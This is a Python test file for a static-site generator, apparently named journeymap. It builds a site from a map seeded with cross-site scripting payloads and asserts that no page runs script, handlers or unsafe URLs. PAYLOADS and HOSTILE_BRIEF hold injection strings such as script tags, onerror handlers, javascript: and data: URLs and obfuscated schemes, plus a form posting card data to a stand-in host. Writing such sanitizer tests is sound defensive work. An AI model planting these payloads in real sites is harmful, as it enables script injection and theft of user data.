"""Nothing from the map runs on the published site: a map full of script, handlers and hostile URLs, built.

Every HTML and SVG file of the site is parsed the way a browser tokenises it and
searched for anything that would run: script elements other than the site's own
files, event-handler attributes, links and sources with a scheme other than
http, https or mailto, frames, plug-ins, forms that post, <base>, refreshes.
"""

from __future__ import annotations

import html
from html.parser import HTMLParser
from pathlib import Path

import pytest

from journeymap.util.urls import is_safe

from ..conftest import CLEAN_MAP, run_cli, write_map

PAYLOADS = ['<script>alert("x")</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>',
            "javascript:alert(1)", '\\" ] ; x [label="pwn', "{ }\\l\\n -> ", "</title><script>alert(2)</script>"]
PAYLOAD = " ".join(PAYLOADS)

HOSTILE_BRIEF = """---
title: "Brief <script>alert('title')</script>"
stage: spark
owner: mkt
status: live
---
# Campaign <img src=x onerror=alert(1)>

<script>alert("body")</script>
<iframe src="https://evil.example"></iframe>
<object data="evil.swf"></object><embed src="evil.swf">
<form action="https://evil.example/steal"><input name="card"></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
<a href="javascript:alert(1)" onclick="alert(2)">click</a>
<a href="JaVaScRiPt:alert(3)">case</a> <a href="java&#x09;script:alert(4)">entity</a>
[md link](javascript:alert(5)) ![img](data:image/svg+xml;base64,PHN2Zz4=) [vb](vbscript:msgbox)
<div style="background:url(javascript:alert(6))" onmouseover="alert(7)">hover</div>
<svg><script>alert(8)</script><a xlink:href="javascript:alert(9)"><text>svg</text></a></svg>

Ordinary Markdown stays: **bold**, a [safe link](https://example.com/plan), ![chart](charts/q3.png)

| Quarter | Demos |
| --- | --- |
| Q3 | 120 |

<details><summary>More</summary>Hidden detail</details>
"""


def _hostile_map() -> dict[str, str]:
    owners = CLEAN_MAP["owners.yaml"].replace(
        "    name: Marketing team\n",
        f"    name: 'Marketing {PAYLOAD}'\n    contact: \"javascript:alert('contact')\"\n")
    spark = (CLEAN_MAP["stages/spark.yaml"].replace("name: Spark\n", f"name: 'Spark {PAYLOAD}'\n")
             .replace("    name: Sees an ad\n", f"    name: 'Ad {PAYLOAD}'\n    channel: 'onmouseover=alert(1)'\n"))
    journey = CLEAN_MAP["journey.yaml"].replace("title: Tiny journey\n", f"title: 'Tiny {PAYLOAD}'\n"
                                                 "repo_url: \"javascript:alert('repo')\"\n")
    evidence = CLEAN_MAP["evidence/talk.md"].replace("kind: interview\n", "kind: interview\n"
                                                     "source: \"data:text/html,<script>alert(1)</script>\"\n")
    return {**CLEAN_MAP, "owners.yaml": owners, "stages/spark.yaml": spark, "journey.yaml": journey,
            "evidence/talk.md": evidence, "briefs/spark-brief.md": HOSTILE_BRIEF}


class _Scanner(HTMLParser):
    """What a browser would run or follow, collected from one document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").endswith((".js",)):
            self.live.append(f"inline <script> {values}")
        if tag == "script" and values.get("src") and "assets/" not in (values.get("src") or ""):
            self.live.append(f"foreign script {values['src']}")
        if tag in ("iframe", "frame", "object", "embed", "base", "applet"):
            self.live.append(f"<{tag}>")
        if tag == "form" and values.get("action"):
            self.live.append(f"form posting to {values['action']}")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.live.append("meta refresh")
        for name, value in attrs:
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "xlink:href", "action", "formaction", "data", "poster") and value \
                    and not is_safe(value):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and "url(" in value:
                self.live.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    write_map(root / "map", _hostile_map())
    result = run_cli("build", "map", "-o", "site", "--keep-going", cwd=root)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert "[unsafe-url]" in result.stderr
    return root / "site"


def test_no_html_or_svg_file_of_the_site_holds_anything_live(hostile_site: Path) -> None:
    files = [*hostile_site.rglob("*.html"), *hostile_site.rglob("*.svg")]
    assert len(files) > 10
    live = {}
    for path in files:
        scanner = _Scanner()
        scanner.feed(path.read_text(encoding="utf-8"))
        if scanner.live:
            live[path.relative_to(hostile_site).as_posix()] = scanner.live
    assert live == {}


def test_the_payloads_are_shown_as_text(hostile_site: Path) -> None:
    scanner = _Scanner()
    scanner.feed((hostile_site / "stages/spark.html").read_text(encoding="utf-8"))
    text = " ".join(scanner.text)
    assert '<script>alert("x")</script>' in text  # the touchpoint's name, escaped, read as text
    brief = (hostile_site / "briefs/spark-brief.html").read_text(encoding="utf-8")
    assert "<strong>bold</strong>" in brief and '<a href="https://example.com/plan"' in brief
    assert 'src="charts/q3.png"' in brief and "<table>" in brief and "<details>" in brief
    assert "Hidden detail" in brief


def test_unsafe_contact_and_source_are_text_not_links(hostile_site: Path) -> None:
    owner = (hostile_site / "owners/mkt.html").read_text(encoding="utf-8")
    assert "javascript:alert(&#39;contact&#39;)" in owner and 'href="javascript' not in owner
    note = (hostile_site / "evidence/talk.html").read_text(encoding="utf-8")
    assert "data:text/html" in note and 'href="data:' not in note


def test_every_page_carries_the_content_security_policy(hostile_site: Path) -> None:
    for path in hostile_site.rglob("*.html"):
        head = html.unescape(path.read_text(encoding="utf-8").split("</head>")[0])
        assert '<meta http-equiv="Content-Security-Policy"' in head, path
        assert "script-src 'self'" in head and "'unsafe-inline'" not in head.split("script-src")[1].split(";")[0]
